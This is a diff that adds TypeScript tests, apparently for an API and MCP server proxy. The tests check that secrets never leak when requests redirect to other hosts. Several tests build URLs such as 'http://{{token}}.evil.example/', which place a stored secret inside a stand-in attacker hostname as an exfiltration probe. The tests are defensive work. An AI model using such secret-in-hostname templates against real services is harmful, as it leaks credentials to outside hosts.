@@ -168,6 +168,27 @@ describe('a builder who did not store a secret', () => {
     expect(JSON.stringify(body)).not.toMatch(REVEALED)
   })
 
+  it.each(['token', 'slashes'])(
+    'is not told the host to which an API redirects if it contains a secret (%s)',
+    async key => {
+      const shown = await attempt({ url: `${carrier.origin}/?to=http://{{${key}}}.evil.example/` })
+      expect(shown).toMatchObject({
+        result: { isError: true, content: [{ text: expect.stringContaining('the origin that it is redirected to') }] },
+      })
+      expect(JSON.stringify(shown)).not.toMatch(REVEALED)
+    },
+  )
+
+  it.each(['http', 'sse'])('is not told the host to which an MCP server redirects (%s)', async transport => {
+    const url = `${carrier.origin}/?to=http://{{token}}.evil.example/`
+    const upstream = { name: transport, transport, url }
+    const { id } = await builder.create(`/servers/${serverId}/upstreams`, upstream)
+    await builder.send('POST', `/upstreams/${id}/refresh`)
+    const { body } = await builder.expectOk('GET', `/upstreams/${id}`)
+    expect(JSON.stringify(body)).toContain('the origin that it is redirected to')
+    expect(JSON.stringify(body)).not.toMatch(REVEALED)
+  })
+
   it('sees a mask in place of a secret in a host, which is sent in lower case', async () => {
     const shown = await attempt({ url: 'https://{{token}}.evil.example/' })
     expect(shown).toMatchObject({
